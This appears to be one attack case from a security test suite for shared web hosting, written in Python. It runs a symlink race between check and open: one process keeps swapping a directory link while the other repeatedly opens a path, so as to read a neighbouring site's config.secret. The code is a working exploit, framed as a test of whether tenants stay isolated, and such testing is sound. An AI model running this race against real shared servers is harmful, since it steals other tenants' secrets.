"""Swap where a symbolic link leads between its check and its opening."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

PRECEDENT = "Apache's documentation of SymLinksIfOwnerMatch: its check can be outrun"
HANDS = 2
SHARED = True


def attack(given: Given) -> object:
    import contextlib
    import os
    import time

    # A race is won by chance: where it can be, in one try of ten. A try counts where the link was
    # swapped since the last. Fewer than `enough` show nothing.
    most, enough = 300, 100
    # link -> d/../NEIGHBOUR/config.secret. Where d leads to a, that is drop/NEIGHBOUR, which leads
    # to the attacker's own site; where d leads to the site, it is the neighbour's.
    name = os.path.basename(given.neighbour)
    here = given.drop
    with contextlib.suppress(FileExistsError):
        os.mkdir(f"{here}/a")
    for target, link in (("a", "d"), ("..", name), (f"d/../{name}/config.secret", "link")):
        with contextlib.suppress(FileExistsError):
            os.symlink(target, f"{here}/{link}")
    deadline = time.monotonic() + 0.7 * given.limit
    if given.hand:
        while time.monotonic() < deadline and not os.path.exists(f"{here}/over"):
            for target in ("..", "a"):
                os.symlink(target, f"{here}/new")
                os.rename(f"{here}/new", f"{here}/d")
        return "swapped"
    refusal: OSError | None = None
    made, before = 0, os.lstat(f"{here}/d").st_ino
    try:
        while made < most and time.monotonic() < deadline:
            try:
                with open(f"{here}/link") as file:
                    text = file.read()
                if f"secret of {name}" in text:
                    return text
            except OSError as error:
                refusal = error
            now = os.lstat(f"{here}/d").st_ino
            made += now != before
            before = now
            if not made:
                time.sleep(0.001)  # for whoever swaps to begin
    finally:
        open(f"{here}/over", "w").close()
    if 0 < made < enough:
        open(f"{here}/unfinished", "w").close()
    if refusal:
        raise refusal
    return f"in vain, in {made} tries"


def proof(scene: Scene) -> str | None:
    evidence = scene.brought_back(scene.secret, "the neighbour's secret")
    if not evidence:
        scene.must_have_looked("unfinished", "finished")
    return evidence
